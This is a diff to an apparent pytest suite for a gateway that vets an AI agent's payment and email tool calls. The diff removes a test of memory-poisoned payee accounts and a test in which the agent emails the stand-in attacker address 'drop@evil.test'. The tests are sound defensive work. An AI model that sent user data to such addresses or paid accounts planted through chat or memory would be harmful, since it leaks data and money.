@@ -47,25 +47,6 @@ async def test_a_channel_named_like_an_account_pays_nobody(world_redis, policies
         assert [b"send_money" in one.body for one in world.received] == [False, False]
 
 
-@pytest.mark.parametrize("text", [ACCOUNT, f"The payee is {ACCOUNT}."])
-async def test_a_saved_handle_keeps_its_service(world_redis, text):
-    """What a chat vouched for is no account after memory, and what the bank did still is one."""
-    async with world_of(assemble, world_redis, SIDE_BY_SIDE) as world:
-        first, later = world.agent(), world.agent(session="s2")
-        await first.call("slack_list_channels", {}, CHANNELS)
-        await first.call("save_fact", {"key": "k", "value": text}, "saved")
-        await later.call("recall_fact", {"key": "k"}, text)
-
-        assert (await later.call("send_money", PAYMENT)).verdict == "ask"
-
-        third, fourth = world.agent(session="s3"), world.agent(session="s4")
-        await third.call("list_payees", {}, [{"name": "Ann Lee", "iban": ACCOUNT}])
-        await third.call("save_fact", {"key": "k", "value": text}, "saved")
-        await fourth.call("recall_fact", {"key": "k"}, text)
-
-        assert (await fourth.call("send_money", PAYMENT)).forwarded
-
-
 async def test_what_an_entry_is_called_is_no_receiver(world_redis):
     """A payee may call himself by any account number."""
     async with world_of(assemble, world_redis, ONE_SERVICE) as world:
@@ -109,26 +90,3 @@ async def test_a_contested_tool_keeps_what_its_mapping_restricts(world_redis):
         assert nobody.verdict == "block"
         assert inside.verdict == "ask"
         assert "tool_contested" in inside.codes
-
-
-async def test_an_entry_for_any_server_names_none(world_redis):
-    """Without a listener or an upstream it is about whoever answers."""
-    policy = """
-version: 1
-name: anywhere
-extends: builtin:office
-servers:
-  - name: mail
-    tools:
-      - match: [search_contacts]
-        role: retrieve
-        fields: [{path: "$[*].email", as: directory, kinds: [mail], name: "$[*].name"}]
-      - {match: [send_email], role: send, destinations: ["$.to"], body: ["$.body"]}
-"""
-    async with world_of(assemble, world_redis, policy) as world:
-        world.serve(OTHER, _contacts)
-        await world.agent(listener=OTHER).call("search_contacts", {"query": "Ann"})
-
-        sent = await world.agent().call("send_email", {"to": ["drop@evil.test"], "body": "x"})
-
-        assert sent.verdict == "ask"
